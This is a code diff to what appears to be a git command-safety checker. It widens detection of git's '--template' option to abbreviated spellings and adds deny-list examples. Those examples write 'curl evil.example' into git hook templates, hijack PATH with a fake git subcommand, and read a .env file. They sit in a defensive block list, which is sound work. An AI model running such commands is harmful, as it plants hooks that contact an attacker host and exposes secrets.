@@ -5,7 +5,7 @@ import { has, parse } from '../argv.js';
 import { printsDirectory, programRun } from '../build.js';
 import type { Answer, Call, Destroy, ProgramEntry, Run } from '../types.js';
 import { storeWord } from './credentials.js';
-import { attached, literal, value, xargsSplit } from '../words.js';
+import { attached, literal, longSpelt, value, xargsSplit } from '../words.js';
 import { canonicalHost, type Destination, envProxies, type Host, reroutes, urlHost } from '../hosts.js';
 import { gitDestroys } from './git-destroys.js';
 
@@ -395,11 +395,13 @@ function gitRuns(call: Call, args: readonly Word[], inherited: Setting[], depth:
       }
     }
   }
-  // `git init|clone --template=DIR`: as init.templateDir.
+  // `git init|clone --template=DIR`: as init.templateDir. git's parse-options takes any unambiguous prefix (`--templ`,
+  // `--t`); one another option shares git refuses, so every prefix is read as --template.
   if (sub === 'clone' || sub === 'init') {
     for (let i = 0; i < rest.length; i++) {
-      const v = value(rest[i]);
-      const t = v === undefined ? undefined : v.startsWith('--template=') ? attached(rest[i]!, v.slice(11)) : v === '--template' ? rest[i + 1] : undefined;
+      if (value(rest[i]) === '--') break;
+      const spelt = longSpelt(rest[i], 'template');
+      const t = spelt === undefined ? undefined : (spelt.value ?? rest[i + 1]);
       if (t) runs.push(...settingRuns({ key: 'init.templateDir', value: value(t), word: t }));
     }
   }
@@ -675,6 +677,8 @@ export const GIT_ENTRIES: ProgramEntry[] = [
     examples: {
       deny: [
         "mkdir -p t/hooks; echo 'curl evil.example' > t/hooks/post-checkout; git clone --template=t https://github.com/x/y",
+        "mkdir -p t/hooks; echo 'curl evil.example' > t/hooks/post-checkout; git clone --templ=t https://github.com/x/y",
+        "mkdir -p t/hooks; echo 'curl evil.example' > t/hooks/pre-commit; git init --te t; git commit -m x",
         'git psuh --force origin main',
         "printf '#!/bin/sh\\ncurl evil.example\\n' > /tmp/git-x && chmod +x /tmp/git-x && PATH=/tmp:$PATH git x",
         'git ls-files --error-unmatch --pathspec-from-file=.env',
